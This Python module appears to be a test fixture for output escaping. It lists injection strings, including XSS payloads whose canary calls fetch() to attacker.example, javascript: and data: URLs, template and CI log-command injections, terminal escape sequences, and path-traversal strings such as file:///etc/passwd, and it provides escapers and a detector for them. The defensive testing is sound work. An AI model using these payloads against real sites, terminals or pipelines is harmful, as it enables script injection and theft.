"""Texts that attack whoever shows them, prints them or passes them on, and how they are written into files."""

import re

EVIL = "https://attacker.example/"
CANARY = f"console.log('ATTACKED');self.attacked=1;fetch('{EVIL}')"

MARKUP = [
    f"<script>{CANARY}</script>",
    f"</script><script>{CANARY}</script>",
    f"</title></style></textarea></noscript></template></xmp><script>{CANARY}</script>",
    f"<!--<script>{CANARY}</script>",
    f"--!><svg onload={CANARY}>",
    f"]]></string></dict><!--]]><script>{CANARY}</script>",
    f'"><img src=x onerror="{CANARY}">',
    f"'><img src=x onerror='fetch(`{EVIL}`)'>",
    f'" onmouseover="{CANARY}" autofocus onfocus="{CANARY}" x="',
    f"' onclick=self.attacked=1 style='background:url({EVIL})",
    f'<iframe srcdoc="<script>{CANARY}</script>"></iframe><object data={EVIL}></object>',
    f"<meta http-equiv=refresh content='0;url={EVIL}'><base href='{EVIL}'><link rel=stylesheet href='{EVIL}'>",
    f"</style><style>@import '{EVIL}';*{{background:url({EVIL})}}</style>",
    f"<form action='{EVIL}'><button autofocus>x</button></form><a href='javascript:{CANARY}' target=_top>x</a>",
    f'<math><mtext></mtext><mglyph><style><img src=x onerror="{CANARY}">',
    "&lt;script&gt; &amp;lt;b&amp;gt; &#60;i&#62; &#x3c;b&#x3E; &quot;&apos;&#39; &nbsp;&Unknown; &#xD800; &#x110000;",
    f"\\u003cscript\\u003e \\x3c/script\\x3e \";{CANARY};// ';{CANARY};// ${{{CANARY}}}`",
    '"\u0301 \'\u0301 <\u0301 >\u0301 &\u0301 \\\u0301 `\u0301',
]
ADDRESSES = [
    "javascript:" + CANARY, "JaVaScRiPt:" + CANARY, "javascript&colon;" + CANARY, "&#106;avascript:" + CANARY,
    "javascript%3A" + CANARY, f"data:text/html,<script>{CANARY}</script>", f"data:image/svg+xml,<svg onload={CANARY}>",
    "vbscript:msgbox(1)", "//attacker.example/", "\\\\attacker.example\\", "/\\attacker.example/", "https:/\\attacker.example",
    "blob:https://x/y", "file:///etc/passwd", "java\tscript:" + CANARY, "java\nscript:" + CANARY, f'{EVIL}"><script>{CANARY}</script>',
    "https://ok.example@attacker.example/#\"'<>`{}|^%00%0d%0aX:y",
]
TEMPLATES = ["{{{a}}}", "{{>dashboard/head}}", "{{=<% %>=}}<%title%>", "{{#a}}x{{/a}}", "{{", "}}", "{{.}}", "{{$block}}x{{/block}}", "{{<parent}}{{/parent}}"]
# Each line that may come to stand by itself begins with INJECTED or with a command that nobody gives.
LINES = [
    "safe\rINJECTED", "ok\r\nINJECTED", "ok\nINJECTED", "a\x85INJECTED", "a\u2028INJECTED", "a\u2029INJECTED", "\n::error::INJECTED", "\r\n::warning::INJECTED",
    "%0A::error::INJECTED", "%\u0301 :\u0301 ,\u0301", "::set-output name=a::b", "::stop-commands::x", "##[error]x", "a,line=1::x", "a\r\nATTACH:INJECTED",
    "a\nEND:VEVENT\nBEGIN:VALARM", "semi;comma,back\\slash\\n \\, \\; \\N",
]
# What feeds can hold and a terminal must not see: controls of C1, marks of direction, what nobody sees.
UNSEEN = [
    "\x9b31m\x9d0;title\x9c", "\x7f\x7f", "\u202egnp.exe\u202c", "\u2067a\u2066b\u2069", "\u200e\u200f\u061c", "a\u200bb\u200db\u2060c\xad", "a\ufeffb\ufff9\ufffb\ufffd",
    "\U000e0041\U0001d173\ue000\U0010ffff",
]
MARKDOWN = [
    f"[click]({EVIL}) ![pic]({EVIL}x.png) <{EVIL}> www.attacker.example", "| a | b |\n|---|---|", "`code` ```fence``` ~~~", "@everyone @octocat #1 GH-1 owner/repo#1 :smile:",
    "</pre></details><details open>", "# Heading", "---", "> quote", "- [ ] task", "[^1]: note", f"[x]: {EVIL}", "**bold** __b__ ~~s~~", "$\\sqrt{x}$", "\\",
]
LONG = ["W" * 300, "e" + "\u0301" * 100, "𝕏" * 60, "👨‍👩‍👧‍👦" * 10]
PATHS = ["../../../../outside", "/outside", "a/../../b", "..\\..\\b", "CON", "a.", "-rf", "a%2e%2e%2fb", "é", "e\u0301"]
ALL = MARKUP + ADDRESSES + TEMPLATES + LINES + UNSEEN + MARKDOWN + LONG + PATHS

# No feed can hold these.
CONTROLS = [chr(code) for code in range(0x20) if chr(code) not in "\t\n\r"] + ["\ufffe", "\uffff"]
COMMANDS = ["\x1b[2J\x1b[31m", "\x1b]0;title\x07", "\x1b]8;;https://attacker.example/\x1b\\link\x1b]8;;\x1b\\", "\x1b]52;c;cm0gLXJm\x07", "abc\b\b\bxyz"]

OBEYED = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]")
COMMAND = re.compile(r"^(INJECTED|::(error|warning|set-output|stop-commands)::(INJECTED|x)|ATTACH:|##\[)", re.MULTILINE)


def yaml(text):
    """A text as a double-quoted scalar of YAML, in which nothing is anything but itself."""
    result = ""
    for character in text:
        code = ord(character)
        if character in '"\\':
            result += "\\" + character
        elif 0x20 <= code < 0x7F or 0xA0 <= code < 0x2000 or 0x3000 <= code < 0xD800:
            result += character
        else:
            result += f"\\U{code:08x}"
    return f'"{result}"'


def markdown(text):
    """A text on one line of Markdown, in which nothing is markup."""
    return re.sub(r"([!-/:-@\[-`{-~])", r"\\\1", " ".join(re.split(r"[\s\x85\u2028\u2029]+", text)).strip())


def obeyed(text):
    """What a terminal would obey in a text that was printed, and lines that somebody else put there; both should be empty."""
    lines = [line for line in re.split("\r\n|[\n\r\x0b\x0c\x1c-\x1e\x85\u2028\u2029]", text) if COMMAND.match(line)]
    return sorted(set(OBEYED.findall(text))), lines
